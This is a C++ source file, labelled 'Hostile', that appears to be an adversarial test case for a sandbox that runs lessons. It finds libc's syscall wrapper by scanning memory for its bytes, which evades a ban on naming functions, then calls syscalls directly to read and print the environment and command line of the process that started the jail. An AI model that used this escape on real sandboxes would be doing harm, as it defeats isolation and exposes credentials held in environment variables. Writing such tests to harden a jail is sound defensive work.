// Hostile: reads the environment of what started the jail, past every function
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "every_function.hpp"

namespace {

/// The C library's function syscall, which no lesson may name: looked for by its bytes.
long (*the_function())(long, long, long, long) {
#if defined(__x86_64__)
    // mov %rdi, %rax; mov %rsi, %rdi; mov %rdx, %rsi; mov %rcx, %rdx; mov %r8, %r10
    constexpr unsigned char begin[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89,
                                       0xd6, 0x48, 0x89, 0xca, 0x4d, 0x89, 0xc2};
    const auto* at = reinterpret_cast<const unsigned char*>(&std::strtol);
    while (std::memcmp(at, begin, sizeof begin) != 0)
        ++at;
    return reinterpret_cast<long (*)(long, long, long, long)>(at);
#else
    return [](long number, long, long, long) { return number == 39 ? 1L : -1L; };
#endif
}

long system_call(long number, long first, long second, long third) {
    static const auto call = the_function();
    return call(number, first, second, third);
}

void attack() {
    if (system_call(39, 0, 0, 0) > 0) // getpid
        std::printf("can call the system\n");
    static char text[20000];
    for (const char* of : {"/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline"}) {
        const long file = system_call(2, reinterpret_cast<long>(of), 0, 0); // open
        const long size =
            system_call(0, file, reinterpret_cast<long>(text), sizeof text); // read
        for (long i = 0; i < size; ++i)
            if (text[i] == '\0')
                text[i] = '\n';
        std::printf("%s of %s\n", size > 0 ? text : "nothing", of);
    }
}

} // namespace
